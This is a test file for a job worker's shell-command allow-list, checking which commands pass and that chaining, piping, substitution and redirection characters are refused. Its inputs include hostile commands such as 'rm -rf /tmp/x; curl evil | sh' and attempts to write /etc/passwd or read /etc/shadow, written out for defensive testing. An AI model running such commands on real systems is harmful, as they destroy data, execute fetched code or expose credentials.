import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ConfigError } from '@jobnest/common';
import { parseAllowedCommands, shellCommandRefusal } from '@jobnest/worker-app/internal';

describe('JOBNEST_SHELL_ALLOWED_COMMANDS rule', () => {
  it('lets any command run when there is no allow-list', () => {
    assert.equal(shellCommandRefusal('rm -rf /tmp/x; curl evil | sh', undefined), undefined);
  });

  const allowed = ['echo', 'backup.sh', '/usr/bin/du'];
  for (const command of [
    'echo hi',
    '  echo   hi  ',
    'echo',
    'echo\t"a b" $HOME',
    'backup.sh --full',
    '/usr/bin/du -sh /var',
  ]) {
    it(`allows ${JSON.stringify(command)}`, () => {
      assert.equal(shellCommandRefusal(command, allowed), undefined);
    });
  }

  const refused: [string, RegExp][] = [
    ['ls', /'ls' is not one of JOBNEST_SHELL_ALLOWED_COMMANDS/],
    ['echoo hi', /'echoo' is not one of/],
    ['du -sh', /'du' is not one of/],
    ['"echo" hi', /'"echo"' is not one of/],
    ['echo a; id', /contains ";"/],
    ['echo a && id', /contains "&"/],
    ['echo a & id', /contains "&"/],
    ['echo a | sh', /contains "\|"/],
    ['echo `id`', /contains "`"/],
    ['echo $(id)', /contains "\$\("/],
    ['echo a > /etc/passwd', /contains ">"/],
    ['echo < /etc/shadow', /contains "<"/],
    ['echo a\nid', /contains "\\n"/],
    ['echo a\r\nid', /contains "\\r"/],
    ["echo ';'", /contains ";"/],
  ];
  for (const [command, message] of refused) {
    it(`refuses ${JSON.stringify(command)}`, () => {
      const refusal = shellCommandRefusal(command, allowed);
      assert.ok(refusal !== undefined, 'refused');
      assert.match(refusal, message);
    });
  }

  it('checks the setting at boot: single words, at least one', () => {
    assert.deepEqual(parseAllowedCommands('JOBNEST_SHELL_ALLOWED_COMMANDS', ['echo', 'ls']), ['echo', 'ls']);
    for (const entries of [[], ['echo hi'], ['echo;id'], ['a|b']]) {
      assert.throws(
        () => parseAllowedCommands('JOBNEST_SHELL_ALLOWED_COMMANDS', entries),
        (err: unknown) => err instanceof ConfigError && /JOBNEST_SHELL_ALLOWED_COMMANDS/.test(err.message),
        JSON.stringify(entries),
      );
    }
  });
});
